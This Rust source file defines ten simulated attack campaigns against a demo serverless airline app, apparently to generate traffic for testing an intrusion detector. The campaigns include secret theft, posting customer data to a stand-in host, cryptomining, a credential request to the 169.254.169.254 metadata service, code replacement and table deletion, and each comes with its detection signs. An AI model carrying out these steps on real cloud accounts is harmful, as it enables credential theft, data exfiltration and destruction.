//! The demo's ten attacks on the airline, one after the other on the last day.

use super::{
    super::{
        application::{Op, Service},
        applications::airline::{ASK_FOR_PAYMENT, CHARGE},
        benign::MINUTE,
    },
    Act, Campaign,
};

const fn call(op: Op, times: u32, ms: f64) -> Act {
    Act::Call { op, times, ms, size: None }
}

/// In the order they happen.
#[expect(clippy::too_many_lines, reason = "a table")]
pub fn all() -> Vec<Campaign> {
    vec![
        plan(
            ("credential-theft", "search-flights", "search-flights"),
            (1, 0),
            "search-flights asks STS who it is, lists the account's secrets and reads three of them",
            &["sts.", "secretsmanager."],
            vec![
                call(Op::new(Service::Sts, "GetCallerIdentity", ""), 1, 24.0),
                call(Op::new(Service::Secrets, "ListSecrets", ""), 1, 30.0),
                call(Op::new(Service::Secrets, "GetSecretValue", "payment-api-key"), 1, 22.0),
                call(Op::new(Service::Secrets, "GetSecretValue", "partner-fares-token"), 1, 22.0),
                call(Op::new(Service::Secrets, "GetSecretValue", "database-admin"), 1, 22.0),
            ],
        ),
        plan(
            ("data-exfiltration", "get-loyalty", "get-loyalty"),
            (12, 15),
            "get-loyalty queries the customers table and posts the answers to an unknown host",
            &["example.net", "table/customers"],
            vec![
                call(Op::dynamo("Query", "customers"), 3, 14.0),
                call(Op::http("POST", "https://sync.telemetry-cdn.example.net/v1/collect"), 1, 180.0),
            ],
        ),
        plan(
            ("table-dump", "confirm-booking", "reserve-seat"),
            (1, 0),
            "confirm-booking scans its own bookings table sixty times in one invocation",
            &["dynamodb.Scan"],
            vec![call(Op::dynamo("Scan", "bookings"), 60, 55.0)],
        ),
        Campaign {
            omit: Some(ASK_FOR_PAYMENT),
            causes: Some("confirm-booking"),
            ..plan(
                ("skipped-payment", "reserve-booking", "reserve-seat"),
                (10, 18),
                "reserve-booking invokes confirm-booking itself, and nobody pays",
                &["confirm-booking", "queue/payments"],
                vec![Act::Start { op: Op::invoke("confirm-booking"), function: "confirm-booking" }],
            )
        },
        plan(
            ("lateral-movement", "notify-booking", "reserve-seat"),
            (1, 0),
            "notify-booking invokes admin-backoffice, never invoked before, and replaces its code",
            &["admin-backoffice", "UpdateFunctionCode"],
            vec![
                call(Op::invoke("admin-backoffice"), 1, 30.0),
                call(Op::new(Service::Lambda, "UpdateFunctionCode", "admin-backoffice"), 1, 260.0),
            ],
        ),
        plan(
            ("crypto-mining", "reserve-seat", "reserve-seat"),
            (15, 20),
            "reserve-seat talks to a mining pool on port 3333 and computes for 12 to 14 seconds",
            &["example.org:3333"],
            vec![
                call(Op::http("POST", "http://pool.quickhash.example.org:3333/json_rpc"), 1, 90.0),
                Act::Compute { ms: 13_000.0 },
            ],
        ),
        plan(
            ("metadata-access", "ingest-loyalty", "reserve-seat"),
            (3, 5),
            "ingest-loyalty asks the metadata service at 169.254.169.254 for credentials",
            &["metadata service"],
            vec![call(Op::http("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), 1, 12.0)],
        ),
        Campaign {
            omit: Some(CHARGE),
            ..plan(
                ("bypassed-payment", "collect-payment", "reserve-seat"),
                (8, 12),
                "collect-payment records a payment without calling the payment API",
                &["payments.example"],
                Vec::new(),
            )
        },
        Campaign {
            unlucky: Some(true),
            ..plan(
                ("destruction", "cancel-booking", "reserve-seat"),
                (1, 0),
                "cancel-booking deletes objects, a table and its log group",
                &["DeleteObjects", "DeleteTable", "DeleteLogGroup"],
                vec![
                    call(Op::s3("DeleteObjects", "airline-catalogue-exports"), 1, 70.0),
                    call(Op::dynamo("DeleteTable", "bookings"), 1, 60.0),
                    call(Op::new(Service::Logs, "DeleteLogGroup", "/aws/lambda/cancel-booking"), 1, 40.0),
                ],
            )
        },
        plan(
            ("stealthy-read", "search-flights", "search-flights"),
            (1, 0),
            "search-flights reads one item of the loyalty table, as get-loyalty could; expected to be hard",
            &["table/loyalty"],
            vec![call(Op::dynamo("GetItem", "loyalty"), 1, 4.5)],
        ),
    ]
}

fn plan(
    (id, function, entry): (&'static str, &'static str, &'static str),
    (requests, minutes): (u64, u64),
    description: &str,
    signs: &[&'static str],
    acts: Vec<Act>,
) -> Campaign {
    Campaign {
        description: description.to_owned(),
        signs: signs.to_vec(),
        requests,
        over: minutes * MINUTE,
        acts,
        unlucky: Some(false),
        ..Campaign::new(id, function, entry)
    }
}
